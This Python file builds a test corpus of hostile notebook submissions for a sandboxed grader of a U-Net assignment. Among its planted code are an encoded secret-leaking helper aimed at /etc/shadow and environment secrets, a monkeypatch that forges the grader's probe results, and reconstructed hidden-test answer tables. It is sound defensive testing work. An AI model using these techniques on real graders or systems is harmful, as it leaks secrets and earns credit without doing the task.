"""Build the attack corpus: hostile submissions of the real `unet` assignment, one per scenario.

    .venv/bin/python tests/grader/corpus/build_corpus.py --out /tmp/corpus          # build all
    .venv/bin/python tests/grader/corpus/build_corpus.py --out /tmp/corpus --list   # list them
    .venv/bin/python tests/grader/corpus/build_corpus.py --out /tmp/corpus NAME ... # a few
    .venv/bin/python tests/grader/corpus/build_corpus.py --out /tmp/dl --downloads  # LMS downloads

Each scenario is a submission folder (the layout of nbgrader's submitted/<student>/unet/) built
from the instructor's source notebooks (instructor/source/unet/, solutions and hidden tests) and
the released student notebooks (notebooks/, what `nbgrader generate_assignment` makes of them).
Nothing is hand-copied notebook JSON: notebooks are read with nbformat and edited cell by cell.

The corpus attacks the design "the verdict leaves the student's process" (issues 10 and 11):
student code runs in a sandboxed kernel, a trusted judge outside it runs the test cells and
asks the kernel only for values; expected values come from the reference in the judge, hidden
inputs are drawn fresh per grading run, the kernel sees the reference of EARLIER notebooks only,
submissions are plain data. Every scenario is a real attempt to get points without solving.

`expect` of a scenario is what a correct defence gives, by principle: an attack never earns
points the honest work under it does not deserve. Keys:

- points: {grade_id of every test cell of the assignment: points}; a notebook the scenario
  does not hand in scores 0.
- reason: a regex that must appear in the reason of the attacked cells (`targets`) or of the
  submission.
- targets: the test cells the attack is aimed at (those that must score 0 with that reason).
- canary: when true, the scenario plants code that, if it ever runs OUTSIDE a kernel (in the
  judge, the grader, collect, pytest), writes `<canary_dir>/<scenario>.<tag>.OUTSIDE-KERNEL.<pid>`
  (see `outside_kernel_canaries`). None may exist after grading.
- no_leak: kinds of secret that must not reach the feedback HTML or the exported CSVs, plain or
  encoded (see `find_leaks`): "solution" (solution code of the source notebooks), "hidden"
  (hidden-test lines), "shadow" (/etc/shadow), "environ" (the value of $GRADER_CORPUS_SECRET,
  which the harness sets in the grader's environment), "probe-output" (what the student's code
  printed while the judge probed it: lines starting `PROBE-ARGS:`).
- gradebook_unchanged: the gradebook file must be byte-identical except for the grades.

Scenario attributes besides `expect`: `root_only` (needs root to build: device nodes),
`needs_sandbox` (unsafe to grade without the full sandbox: it signals or floods what it can see),
`valid` (False where the scenario is about invalid notebook files).

Grading cost: every notebook imports TensorFlow (about 10 s here); 05_training also trains.
Run the corpus with a short cell time limit (e.g. `--limit cell_timeout=60`): several scenarios
hang on purpose.
"""

from __future__ import annotations

import argparse
import base64
import collections
import copy
import dataclasses
import hashlib
import io
import json
import os
import re
import shutil
import stat
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
# CORPUS_REPO: build from another checkout's notebooks (e.g. a release being compared)
REPO = Path(os.environ.get("CORPUS_REPO") or HERE.parents[2]).resolve()
SOURCE_DIR = REPO / "instructor" / "source" / "unet"
RELEASE_DIR = REPO / "notebooks"
GRADEBOOK = REPO / "instructor" / "gradebook.db"
ASSIGNMENT = "unet"
STEMS = ("01_data", "02_encoder", "03_decoder", "04_unet", "05_training")
CANARY_DIR = "/tmp/grader-corpus-canary"
ENV_SECRET = "GRADER_CORPUS_SECRET"
LEAK_PREFIX = "LEAK:"
PROBE_PREFIX = "PROBE-ARGS:"


# --------------------------------------------------------------------------------------
# Special files a scenario can ask for (they cannot be committed, so they are made for real)
# --------------------------------------------------------------------------------------

@dataclasses.dataclass(frozen=True)
class Symlink:
    """A symbolic link; `relative` makes an absolute target relative to the link's folder."""
    target: str
    relative: bool = False


@dataclasses.dataclass(frozen=True)
class Fifo:
    """A named pipe: opening it for reading blocks until someone writes."""


@dataclasses.dataclass(frozen=True)
class Device:
    """A device node (root only). Default: a char device 1,5 (/dev/zero: endless reads)."""
    major: int = 1
    minor: int = 5
    block: bool = False


@dataclasses.dataclass(frozen=True)
class HugeFile:
    """A file of `size_mb` MB: sparse (a hole, no disk used) or written (zeros)."""
    size_mb: int
    sparse: bool = True


@dataclasses.dataclass(frozen=True)
class HugeNotebook:
    """A valid notebook (`notebook`) padded to `size_mb` MB with one enormous stream output."""
    notebook: object
    size_mb: int


@dataclasses.dataclass(frozen=True)
class ManyFiles:
    """A folder with `count` small files."""
    count: int
    size: int = 16


@dataclasses.dataclass(frozen=True)
class Loop:
    """A symbolic link to '.' (a loop for anything that follows links)."""


@dataclasses.dataclass(frozen=True)
class Directory:
    """An empty folder."""


@dataclasses.dataclass(frozen=True)
class DeepDirs:
    """Folders nested `depth` deep (deeper than PATH_MAX allows to name in one path)."""
    depth: int
    name: str = "d"


MARKERS = (Symlink, Fifo, Device, HugeFile, HugeNotebook, ManyFiles, Loop, Directory, DeepDirs)


@dataclasses.dataclass
class Scenario:
    description: str
    notebooks: tuple
    build: object  # build(ctx) -> {relative path: notebook | bytes | marker}
    expect: dict
    root_only: bool = False
    needs_sandbox: bool = False
    valid: bool = True
    tags: tuple = ()


# --------------------------------------------------------------------------------------
# The assignment: source and release notebooks, graded cells, points
# --------------------------------------------------------------------------------------

def _read(path):
    return nbformat.read(str(path), as_version=4)


def _meta(cell):
    return cell.get("metadata", {}).get("nbgrader", {})


def _load_assignment():
    source = {stem: _read(SOURCE_DIR / f"{stem}.ipynb") for stem in STEMS}
    release = {stem: _read(RELEASE_DIR / f"{stem}.ipynb") for stem in STEMS}
    points, functions, test_notebook = {}, {}, {}
    for stem, nb in source.items():
        for cell in nb.cells:
            meta = _meta(cell)
            if meta.get("grade") and not meta.get("solution"):
                points[meta["grade_id"]] = int(meta.get("points", 0))
                test_notebook[meta["grade_id"]] = stem
            elif meta.get("solution"):
                functions[meta["grade_id"]] = stem
    return source, release, points, functions, test_notebook


SOURCE, RELEASE, POINTS, FUNCTION_NOTEBOOK, TEST_NOTEBOOK = _load_assignment()

# The test cells that judge each graded function (compile_model is also what
# test_training_learns judges: unet_model is the reference one while grading).
TESTS_OF = {
    "pair_files": ("test_pair_files",),
    "decode_image": ("test_decode_image",),
    "decode_mask": ("test_decode_mask",),
    "resize_pair": ("test_resize_pair",),
    "split_pairs": ("test_split_pairs",),
    "make_dataset": ("test_make_dataset",),
    "conv_block": ("test_conv_block", "test_conv_block_outputs"),
    "transposed_output_size": ("test_transposed_output_size",),
    "transposed_conv2d": ("test_transposed_conv2d",),
    "upsampling_block": ("test_upsampling_block",),
    "unet_model": ("test_unet_model", "test_unet_model_other_sizes"),
    "compile_model": ("test_compile_model", "test_training_learns"),
    "pixel_accuracy": ("test_pixel_accuracy",),
    "mean_iou": ("test_mean_iou",),
    "foreground_mask": ("test_foreground_mask",),
    # the "predict first" answers
    "conv_block_parameters": ("test_conv_block_parameters",),
    "encoder_receptive_field": ("test_encoder_receptive_field",),
    "unet_parameters": ("test_unet_parameters",),
    "mean_iou_from_confusion": ("test_mean_iou_from_confusion",),
    "logit_for_threshold": ("test_logit_for_threshold",),
}


def _check_tables():
    missing = sorted(set(POINTS) - {t for tests in TESTS_OF.values() for t in tests})
    extra = sorted(set(FUNCTION_NOTEBOOK) - set(TESTS_OF))
    if missing or extra or sum(POINTS.values()) != 100:
        raise RuntimeError(f"the source notebooks changed: untested {missing}, unknown functions {extra}, "
                           f"total {sum(POINTS.values())} points; update TESTS_OF")


_check_tables()


def tests_in(stem):
    return [grade_id for grade_id, notebook in TEST_NOTEBOOK.items() if notebook == stem]


def functions_in(*stems):
    """The graded functions of these notebooks."""
    return [name for name in TESTS_OF if FUNCTION_NOTEBOOK[name] in stems]


def full(*stems):
    """{test cell: its points} for every test cell of these notebooks."""
    return {grade_id: POINTS[grade_id] for stem in stems for grade_id in tests_in(stem)}


def full_of(*names):
    """{test cell: its points} for these functions (or test cell ids)."""
    return {grade_id: POINTS[grade_id] for name in names for grade_id in TESTS_OF.get(name, (name,))}


def zero(*names):
    """{test cell: 0} for these functions (or test cell ids)."""
    out = {}
    for name in names:
        for grade_id in TESTS_OF.get(name, (name,)):
            out[grade_id] = 0
    return out


def expect(points, reason, targets=(), **extra):
    """The expectation of a scenario: every test cell of the assignment gets a number."""
    unknown = sorted(set(points) - set(POINTS))
    if unknown:
        raise KeyError(f"unknown test cells {unknown}")
    complete = {grade_id: 0 for grade_id in POINTS}
    complete.update(points)
    targets = [t for name in targets for t in TESTS_OF.get(name, (name,))]
    return {"points": complete, "total": sum(complete.values()), "reason": reason, "targets": targets, **extra}


# --------------------------------------------------------------------------------------
# What build functions get: the notebooks and the editing helpers
# --------------------------------------------------------------------------------------

def _index(nb, grade_id):
    for index, cell in enumerate(nb.cells):
        if _meta(cell).get("grade_id") == grade_id:
            return index
    raise KeyError(f"no cell {grade_id!r} in this notebook")


def _strip_markers(source):
    lines = [line for line in source.splitlines()
             if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")]
    return "\n".join(lines)


class Context:
    """Handed to every scenario's build(): notebooks, paths and helpers."""

    def __init__(self, scenario="", gradebook=GRADEBOOK, canary_dir=CANARY_DIR):
        self.scenario = scenario
        self.repo = REPO
        self.source_dir = SOURCE_DIR
        self.release_dir = RELEASE_DIR
        self.gradebook = Path(gradebook)
        self.canary_dir = canary_dir
        self.source = SOURCE
        self.release_notebooks = RELEASE

    # notebooks ---------------------------------------------------------------------
    def release(self, stem):
        """A fresh copy of the released (student) notebook."""
        return copy.deepcopy(RELEASE[stem])

    def source_nb(self, stem):
        return copy.deepcopy(SOURCE[stem])

    def solution_code(self, grade_id):
        """The instructor's code of a solution cell, without the solution markers."""
        stem = FUNCTION_NOTEBOOK[grade_id]
        return _strip_markers(SOURCE[stem].cells[_index(SOURCE[stem], grade_id)].source)

    def stub_code(self, grade_id):
        stem = FUNCTION_NOTEBOOK[grade_id]
        return RELEASE[stem].cells[_index(RELEASE[stem], grade_id)].source

    def solved(self, stem, except_=()):
        """The release with every function answered as the instructor did (but `except_`)."""
        nb = self.release(stem)
        for grade_id, notebook in FUNCTION_NOTEBOOK.items():
            if notebook == stem and grade_id not in except_:
                nb.cells[_index(nb, grade_id)].source = self.solution_code(grade_id)
        return nb

    def variant(self, grade_id, *replacements):
        """The solution of `grade_id` with (old, new) text replacements; each must apply."""
        code = self.solution_code(grade_id)
        for old, new in replacements:
            if old not in code:
                raise ValueError(f"{grade_id}: {old!r} is not in the solution any more")
            code = code.replace(old, new)
        return code

    # editing ------------------------------------------------------------------------
    @staticmethod
    def index(nb, grade_id):
        return _index(nb, grade_id)

    @staticmethod
    def replace_function(nb, grade_id, code):
        """Set the source of cell `grade_id` (in place); returns nb."""
        nb.cells[_index(nb, grade_id)].source = code
        return nb

    def with_solution(self, nb, grade_id, code):
        """A copy of nb with cell `grade_id` answered by `code`."""
        return self.replace_function(copy.deepcopy(nb), grade_id, code)

    @staticmethod
    def free_cell(code):
        """A code cell the student added (no nbgrader metadata)."""
        return nbformat.v4.new_code_cell(textwrap.dedent(code).strip("\n") + "\n")

    def insert_after(self, nb, grade_id, code):
        nb.cells.insert(_index(nb, grade_id) + 1, self.free_cell(code))
        return nb

    def append(self, nb, code):
        nb.cells.append(self.free_cell(code))
        return nb

    @staticmethod
    def drop_calls(nb, *names):
        """Remove the student-visible demo cells that call these functions (not graded cells).

        The attack then runs only when the judge probes the function, not while the notebook
        itself runs, so that the points of the functions before it stay determined.
        """
        keep = []
        for cell in nb.cells:
            if (cell.cell_type == "code" and not _meta(cell) and not re.match(r"\s*def ", cell.source)
                    and any(f"{name}(" in cell.source for name in names)):
                continue
            keep.append(cell)
        nb.cells = keep
        return nb

    # planted code ---------------------------------------------------------------------
    def canary_code(self):
        """Python source defining `_corpus_canary(tag)` (see the module docstring)."""
        return (CANARY_CODE.replace("@@DIR@@", repr(self.canary_dir))
                .replace("@@SCENARIO@@", repr(self.scenario)))

    def planted(self, code):
        """Planted code with the canary helper in front."""
        return self.canary_code() + "\n" + textwrap.dedent(code).lstrip("\n")


def files_of(nbs):
    """{file name: notebook} of a {stem: notebook} dict."""
    return {f"{stem}.ipynb": nb for stem, nb in nbs.items()}


def wrap_function(code, name, prologue, epilogue="return _result"):
    """Rename `def name(` in code to `_name_impl` and define `name` around it.

    The wrapper runs `prologue` (it may use args and kwargs), calls the implementation into
    `_result`, then runs `epilogue` (default: return it). Same name and signature for a
    caller that inspects them (functools.wraps).
    """
    if f"def {name}(" not in code:
        raise ValueError(f"no def {name}( in the code")
    impl = code.replace(f"def {name}(", f"def _{name}_impl(", 1)
    return (f"{impl}\n\n\nimport functools as _functools\n\n\n@_functools.wraps(_{name}_impl)\n"
            f"def {name}(*args, **kwargs):\n{textwrap.indent(textwrap.dedent(prologue).strip(), '    ')}\n"
            f"    _result = _{name}_impl(*args, **kwargs)\n"
            f"{textwrap.indent(textwrap.dedent(epilogue).strip(), '    ')}\n\n\n"
            f"{name}.__name__ = {name}.__qualname__ = {name!r}\n")


# --------------------------------------------------------------------------------------
# Shared pieces of planted code
# --------------------------------------------------------------------------------------

CANARY_CODE = r'''
def _corpus_canary(tag, _dir=@@DIR@@, _scenario=@@SCENARIO@@):
    """Record that this planted code ran, and where (a kernel, or something outside one)."""
    import json as _json, os as _os, sys as _sys
    inside = any("ipykernel" in str(a) for a in _sys.argv) or "ipykernel" in _sys.modules
    role = "kernel" if inside else "OUTSIDE-KERNEL"
    try:
        _os.makedirs(_dir, exist_ok=True)
        name = f"{_scenario}.{tag}.{role}.{_os.getpid()}"
        with open(_os.path.join(_dir, name), "w") as handle:
            _json.dump({"argv": _sys.argv, "uid": _os.getuid(), "cwd": _os.getcwd(), "tag": tag}, handle)
    except Exception:
        pass
'''

# Print a payload so that it reaches the outputs (and so the feedback) in several encodings.
LEAK_CODE = r'''
def _leak(label, data):
    """Print `data` plain, and as LEAK:<label>:<encoding>:<index>:<chunk> lines; also to stderr
    and as display data, so that every output channel carries it."""
    import base64 as _b64, codecs as _codecs, sys as _sys, zlib as _zlib
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    label = "".join(c if c.isalnum() or c in "._-" else "_" for c in label)[:80] or "x"
    print(f"----- {label} -----")
    print(data[:4000].decode("utf-8", "replace"))
    encodings = {
        "z64": _b64.b64encode(_zlib.compress(data)).decode(),
        "b64": _b64.b64encode(data[:200000]).decode(),
        "hex": data[:20000].hex(),
        "rot13": _b64.b64encode(_codecs.encode(data[:20000].decode("latin-1"), "rot13").encode("latin-1")).decode(),
    }
    for encoding, payload in encodings.items():
        for index in range(0, len(payload), 4000):
            line = f"LEAK:{label}:{encoding}:{index // 4000}:{payload[index:index + 4000]}"
            print(line)
            if encoding == "z64":
                print(line, file=_sys.stderr)
    try:
        from IPython.display import display as _display
        _display({"text/html": f"<!-- LEAK:{label}:z64:0:{encodings['z64'][:60000]} -->",
                  "application/json": {"leak": label, "z64": encodings["z64"][:60000]}}, raw=True)
    except Exception:
        pass
'''

# Layer tables computed by formula, without building a single layer: what a forger needs
# to fake any conv_block / unet_model configuration, hidden ones included.
FORMULA_CODE = r'''
def _conv_rows(input_shape, n_filters=32, dropout_prob=0, max_pooling=True):
    h, w, c = input_shape
    rows = [["InputLayer", (None, h, w, c), 0],
            ["Conv2D", (None, h, w, n_filters), 9 * c * n_filters + n_filters, "same", "relu", "HeNormal"],
            ["Conv2D", (None, h, w, n_filters), 9 * n_filters * n_filters + n_filters, "same", "relu", "HeNormal"]]
    if dropout_prob > 0:
        rows.append(["Dropout", (None, h, w, n_filters), 0, float(dropout_prob)])
    if max_pooling:
        rows.append(["MaxPooling2D", (None, h // 2, w // 2, n_filters), 0, (2, 2)])
    return rows


def _unet_rows(input_size=(96, 128, 3), n_filters=32, n_classes=23):
    h, w, c = input_size
    rows = [["InputLayer", (None, h, w, c), 0]]
    channels, skips = c, []
    for level in range(5):
        f = n_filters * 2 ** level
        rows.append(["Conv2D", (None, h, w, f), 9 * channels * f + f, "same", "relu", "HeNormal"])
        rows.append(["Conv2D", (None, h, w, f), 9 * f * f + f, "same", "relu", "HeNormal"])
        kind = "Conv2D"
        if level >= 3:
            rows.append(["Dropout", (None, h, w, f), 0, 0.3])
            kind = "Dropout"
        skips.append((h, w, f, kind))
        channels = f
        if level < 4:
            h, w = h // 2, w // 2
            rows.append(["MaxPooling2D", (None, h, w, f), 0, (2, 2)])
    for level in (3, 2, 1, 0):
        f = n_filters * 2 ** level
        h, w, skip_f, kind = skips[level]
        rows.append(["Conv2DTranspose", (None, h, w, f), 9 * channels * f + f, (3, 3), (2, 2), "same", "linear"])
        rows.append(["Concatenate", (None, h, w, f + skip_f), 0, 3, ("Conv2DTranspose", kind)])
        rows.append(["Conv2D", (None, h, w, f), 9 * (f + skip_f) * f + f, "same", "relu", "HeNormal"])
        rows.append(["Conv2D", (None, h, w, f), 9 * f * f + f, "same", "relu", "HeNormal"])
        channels = f
    rows.append(["Conv2D", (None, h, w, n_filters), 9 * channels * n_filters + n_filters, "same", "relu", "HeNormal"])
    rows.append(["Conv2D", (None, h, w, n_classes), n_filters * n_classes + n_classes, "same", "linear",
                 "GlorotUniform"])
    return rows


def _fake_layers(rows):
    """Objects that read like Keras layers to anything that looks at class names and attributes."""
    import types as _types
    classes, made = {}, []

    def fake_class(name):
        if name not in classes:
            classes[name] = type(name, (object,), {"__module__": "keras.src.layers"})
        return classes[name]

    def tensor(shape, producer):
        t = _types.SimpleNamespace(shape=shape, dtype="float32")
        t._keras_history = (producer, 0, 0)
        return t

    previous = None
    for row in rows:
        kind, shape, params, *extra = row
        layer = fake_class(kind)()
        layer.name = f"{kind.lower()}_{len(made)}"
        layer.output = tensor(shape, layer)
        layer.count_params = (lambda p: (lambda: p))(params)
        if kind == "Conv2D":
            layer.padding = extra[0]
            layer.activation = fake_class(extra[1])()
            layer.activation.__name__ = extra[1]
            layer.kernel_initializer = fake_class(extra[2])()
        elif kind == "Conv2DTranspose":
            layer.kernel_size, layer.strides, layer.padding = extra[0], extra[1], extra[2]
            layer.activation = _types.SimpleNamespace(__name__=extra[3])
        elif kind == "Dropout":
            layer.rate = extra[0]
        elif kind == "MaxPooling2D":
            layer.pool_size = extra[0]
        elif kind == "Concatenate":
            layer.axis = extra[0]
        inputs = [] if previous is None else [previous.output]
        if kind == "Concatenate":
            inputs = [tensor(None, fake_class(name)()) for name in extra[1]]
        layer._inbound_nodes = [_types.SimpleNamespace(input_tensors=inputs)]
        made.append(layer)
        previous = layer
    return made
'''


OLD_METRIC_SEEDS = ((0, 23), (17, 23), (23, 23), (5, 9))  # public, and the fixed hidden cases of the old tests


def _metric_cases(seed, n_classes):
    """The metric checker's cases (as test_utils.checks generated them before the judge)."""
    import numpy as np

    rng = np.random.default_rng(seed)
    truth = rng.integers(0, 5, (2, 6, 8, 1)).astype(np.uint8)
    noisy = np.where(rng.random(truth.shape) < 0.3, rng.integers(0, 5, truth.shape), truth).astype(np.int64)
    flat_truth = rng.integers(0, 4, (5, 7)).astype(np.int64)
    absent_both = np.array([[0, 0, 1], [1, 3, 3]], np.int64)
    absent_pred = np.array([[0, 2, 2], [1, 1, 0]], np.int64)
    absent_pred_guess = np.array([[0, 0, 1], [1, 1, 0]], np.int64)
    return [(truth, noisy, n_classes), (flat_truth, flat_truth.copy(), n_classes),
            (flat_truth, (flat_truth + 1) % 4, n_classes), (absent_both, absent_both[::-1].copy(), 5),
            (absent_pred, absent_pred_guess, 3), (absent_pred_guess, absent_pred, 3)]


def _reference_functions(*names):
    """Instructor functions that need only NumPy, executed from the source notebooks."""
    import numpy as np

    namespace = {"np": np}
    for name in names:
        exec(Context().solution_code(name), namespace)
    return [namespace[name] for name in names]


def _metric_lookup_table():
    """{key: value} of pixel_accuracy and mean_iou on the public and formerly hidden cases
    (and on the current checker's fixed cases, where test_utils still exposes them)."""
    import numpy as np

    pixel_accuracy, mean_iou = _reference_functions("pixel_accuracy", "mean_iou")
    cases = [case for seed, n_classes in OLD_METRIC_SEEDS for case in _metric_cases(seed, n_classes)]
    sys.path.insert(0, str(REPO))
    try:
        from test_utils.checks import training as current  # the judge-era layout, if present
        for seed, n_classes in OLD_METRIC_SEEDS:
            cases += [(c[1], c[2], c[3]) for c in current.metric_cases(seed, n_classes)]
    except Exception:  # another layout: the old cases are enough
        pass
    finally:
        sys.path.remove(str(REPO))
    table = {}
    for y_true, y_pred, classes in cases:
        key = _array_key(np, y_true, y_pred, classes)
        table["acc:" + key] = pixel_accuracy(y_true, y_pred)
        table["iou:" + key] = mean_iou(y_true, y_pred, classes)
    return table


def _array_key(np, *values):
    digest = hashlib.sha1()
    for value in values:
        array = np.asarray(value)
        if array.dtype.kind in "iub":
            array = array.astype(np.int64)
        else:
            array = array.astype(np.float64)
        digest.update(repr(array.shape).encode() + b"|" + np.ascontiguousarray(array).tobytes() + b"|")
    return digest.hexdigest()


def _transposed_lookup_table():
    """Answers of transposed_output_size and transposed_conv2d on the public and old hidden cases."""
    import numpy as np

    public_size = ((3, 3, 2, 0), (4, 3, 1, 0), (4, 3, 1, 1), (2, 2, 2, 0), (5, 4, 2, 1), (6, 3, 2, 1))
    public_conv = (((3, 3, 1), (3, 3, 1, 1), 2), ((4, 5, 2), (3, 3, 3, 2), 2), ((3, 4, 3), (2, 2, 2, 3), 1),
                   ((2, 3, 1), (4, 4, 2, 1), 3))
    reference, = _reference_functions("transposed_conv2d")
    hidden_conv = (((5, 4, 3), (3, 2, 4, 3), 2), ((3, 3, 2), (5, 5, 1, 2), 3), ((6, 2, 1), (1, 1, 3, 1), 1),
                   ((4, 4, 4), (4, 4, 4, 4), 2))
    hidden_size = ((1, 3, 2, 0), (6, 3, 2, 0), (12, 4, 2, 1), (7, 5, 3, 2), (10, 1, 1, 0), (8, 2, 4, 0))
    sizes = {",".join(map(str, case)): (case[0] - 1) * case[2] + case[1] - 2 * case[3]
             for case in public_size + hidden_size}
    arrays = {}
    for seed, cases in ((0, public_conv), (7, hidden_conv)):
        rng = np.random.default_rng(seed)
        for input_shape, kernel_shape, stride in cases:
            x = rng.standard_normal(input_shape).astype(np.float32)
            kernel = rng.standard_normal(kernel_shape).astype(np.float32)
            out = reference(x, kernel, stride).astype(np.float32)
            buffer = io.BytesIO()
            np.save(buffer, out)
            arrays[_array_key(np, x, kernel, stride)] = base64.b64encode(buffer.getvalue()).decode()
    return sizes, arrays


# --------------------------------------------------------------------------------------
# The scenarios
# --------------------------------------------------------------------------------------

SCENARIOS = collections.OrderedDict()


def scenario(name, description, notebooks, expectation, **options):
    """Register build(ctx) as scenario `name`."""
    def register(build):
        if name in SCENARIOS:
            raise KeyError(f"two scenarios named {name}")
        unknown = set(notebooks) - set(STEMS)
        if unknown:
            raise KeyError(f"{name}: unknown notebooks {unknown}")
        SCENARIOS[name] = Scenario(description, tuple(notebooks), build, expectation, **options)
        return build
    return register


def code(text):
    return textwrap.dedent(text).strip("\n") + "\n"


LOST = r"not|fail|wrong|differ|expected|missing|error|raise"
STUB = r"NotImplementedError|not written|not implemented|not|fail"


# Baselines ------------------------------------------------------------------------------

@scenario("baseline-solution", "all five notebooks solved as the instructor did", STEMS,
          expect(full(*STEMS), r""), tags=("baseline",))
def _(ctx):
    return files_of({stem: ctx.solved(stem) for stem in STEMS})


@scenario("baseline-release", "the five released notebooks, untouched", STEMS,
          expect({}, STUB, targets=list(TESTS_OF)), tags=("baseline",))
def _(ctx):
    return files_of({stem: ctx.release(stem) for stem in STEMS})


@scenario("baseline-wrong-data",
          "01_data solved but split_pairs does not sort first (its split depends on the input order); "
          "05_training solved: it loads data with the reference functions, so the mistake costs once",
          ("01_data", "05_training"),
          expect({**full("01_data", "05_training"), **zero("split_pairs")}, r"order|sort|differ|split",
                 targets=["split_pairs"]), tags=("baseline",))
def _(ctx):
    nb = ctx.solved("01_data")
    ctx.replace_function(nb, "split_pairs", ctx.variant("split_pairs", ("pairs = sorted(pairs)", "pairs = list(pairs)")))
    return files_of({"01_data": nb, "05_training": ctx.solved("05_training")})


@scenario("baseline-wrong-encoder",
          "conv_block without kernel_initializer='he_normal' (its layer table differs, its outputs are "
          "right); 04_unet solved: it builds on the reference conv_block, so the mistake costs once",
          ("02_encoder", "04_unet"),
          expect({**full("02_encoder", "04_unet"), "test_conv_block": 0}, r"initializer|HeNormal|Glorot|layer|differ",
                 targets=["test_conv_block"]), tags=("baseline",))
def _(ctx):
    nb = ctx.solved("02_encoder")
    wrong = ctx.variant("conv_block", (',\n                             kernel_initializer="he_normal")', ")"))
    if "he_normal" in wrong:
        raise ValueError("conv_block: the initializer is still there")
    ctx.replace_function(nb, "conv_block", wrong)
    return files_of({"02_encoder": nb, "04_unet": ctx.solved("04_unet")})


@scenario("forge-initializer-in-layer-table",
          "conv_block without kernel_initializer='he_normal', as baseline-wrong-encoder, and a later cell "
          "replaces the layer-table function of the kernel's probe so that the table names HeNormal: the "
          "initial weights themselves are compared (issue 23), so the cost is the same as without the lie",
          ("02_encoder",),
          expect({**full("02_encoder"), "test_conv_block": 0}, r"uniform draw|kernel_initializer",
                 targets=["test_conv_block"]), tags=("forging",))
def _(ctx):
    nb = ctx.solved("02_encoder")
    ctx.replace_function(nb, "conv_block", ctx.variant(
        "conv_block", (',\n                             kernel_initializer="he_normal")', ")")))
    ctx.insert_after(nb, "conv_block", code('''
        import test_utils.probes.blocks as _probe_blocks

        _real_summary = _probe_blocks.summary


        def _forged_summary(model):
            return [[("HeNormal" if field == "GlorotUniform" else field) for field in row]
                    for row in _real_summary(model)]


        _probe_blocks.summary = _forged_summary
    '''))
    return files_of({"02_encoder": nb})


@scenario("baseline-wrong-decoder",
          "upsampling_block concatenates in the wrong order (skip connection first); the rest solved",
          ("03_decoder",),
          expect({**full("03_decoder"), **zero("upsampling_block")}, r"order|concaten|first|differ",
                 targets=["upsampling_block"]), tags=("baseline",))
def _(ctx):
    nb = ctx.solved("03_decoder")
    ctx.replace_function(nb, "upsampling_block", ctx.variant(
        "upsampling_block", ("[upsampled, contractive_input]", "[contractive_input, upsampled]")))
    return files_of({"03_decoder": nb})


@scenario("baseline-wrong-unet",
          "unet_model forgets the dropout of the fourth encoder step (both of its test cells fail)",
          ("04_unet",), expect({**full("04_unet"), **zero("unet_model")}, r"Dropout|layer|differ|expected",
                               targets=["unet_model"]),
          tags=("baseline",))
def _(ctx):
    nb = ctx.solved("04_unet")
    ctx.replace_function(nb, "unet_model", ctx.variant(
        "unet_model", ("conv_block(block3[0], n_filters * 8, dropout_prob=0.3)", "conv_block(block3[0], n_filters * 8)")))
    return files_of({"04_unet": nb})


@scenario("baseline-wrong-training",
          "mean_iou counts classes absent from both arrays as IoU 0 (the classic mistake); the rest solved",
          ("05_training",),
          expect({**full("05_training"), **zero("mean_iou")}, r"absent|IoU|expected|differ", targets=["mean_iou"]),
          tags=("baseline",))
def _(ctx):
    nb = ctx.solved("05_training")
    ctx.replace_function(nb, "mean_iou", ctx.variant(
        "mean_iou", ("continue  # the class appears nowhere: it has no IoU", "ious.append(0.0)\n            continue")))
    return files_of({"05_training": nb})


# Honest work that must not be punished -----------------------------------------------------

NOISE = '''
import logging as _logging, sys as _sys, warnings as _warnings
print("debug: called with", len(args), "arguments")
_sys.stderr.write("debug: this goes to stderr\\n")
_warnings.warn("a harmless warning from the student's code", UserWarning)
_logging.getLogger("student").warning("a log line on stderr")
try:
    from IPython.display import Markdown as _Markdown, display as _display
    _display(_Markdown("**working on it**"))
except Exception:
    pass
'''


@scenario("honest-noisy-output",
          "correct 02_encoder and 05_training whose functions print, warn, log to stderr and display "
          "while they run (nbgrader scored any stderr as a failure): full marks",
          ("02_encoder", "05_training"), expect(full("02_encoder", "05_training"), r""), tags=("honest", "output"))
def _(ctx):
    books = {"02_encoder": ctx.solved("02_encoder"), "05_training": ctx.solved("05_training")}
    for grade_id in ("conv_block", "compile_model", "pixel_accuracy", "mean_iou"):
        nb = books[FUNCTION_NOTEBOOK[grade_id]]
        ctx.replace_function(nb, grade_id, wrap_function(ctx.solution_code(grade_id), grade_id, NOISE))
    ctx.append(books["05_training"], 'import sys\nprint("done", file=sys.stderr)\n')
    return files_of(books)


@scenario("honest-helper-module",
          "05_training whose metrics live in the student's own helper module handed in next to the "
          "notebook (my_metrics.py, bincount-based); a notes file too: full marks",
          ("05_training",), expect(full("05_training"), r""), tags=("honest",))
def _(ctx):
    nb = ctx.solved("05_training")
    helper = code('''
        """My metrics, written once and imported by the notebook."""
        import numpy as np


        def accuracy_of(y_true, y_pred):
            y_true, y_pred = np.asarray(y_true).ravel(), np.asarray(y_pred).ravel()
            return float(np.count_nonzero(y_true == y_pred) / y_true.size)


        def iou_mean(y_true, y_pred, n_classes):
            y_true = np.asarray(y_true).astype(np.int64).ravel()
            y_pred = np.asarray(y_pred).astype(np.int64).ravel()
            confusion = np.bincount(y_true * n_classes + y_pred, minlength=n_classes * n_classes)
            confusion = confusion.reshape(n_classes, n_classes)
            intersection = np.diag(confusion)
            union = confusion.sum(0) + confusion.sum(1) - intersection
            present = union > 0
            return float(np.mean(intersection[present] / union[present]))
    ''')
    ctx.replace_function(nb, "pixel_accuracy", code('''
        from my_metrics import accuracy_of


        def pixel_accuracy(y_true, y_pred):
            """Share of pixels whose predicted class is the true class."""
            return accuracy_of(y_true, y_pred)
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        from my_metrics import iou_mean


        def mean_iou(y_true, y_pred, n_classes=23):
            """Mean IoU over the classes present in either array."""
            return iou_mean(y_true, y_pred, n_classes)
    '''))
    return {"05_training.ipynb": nb, "my_metrics.py": helper.encode(), "notes.md": b"# my notes\n\nbincount!\n"}


@scenario("honest-alternative-implementations",
          "03_decoder solved differently from the instructor (kernel-position loops with einsum, "
          "tf.keras.layers.concatenate, an initializer object): full marks",
          ("03_decoder",), expect(full("03_decoder"), r""), tags=("honest",))
def _(ctx):
    nb = ctx.solved("03_decoder")
    ctx.replace_function(nb, "transposed_output_size", code('''
        def transposed_output_size(n, f, s, p):
            """Output size of a transposed convolution along one axis."""
            return int(s * (n - 1) + f - p - p)
    '''))
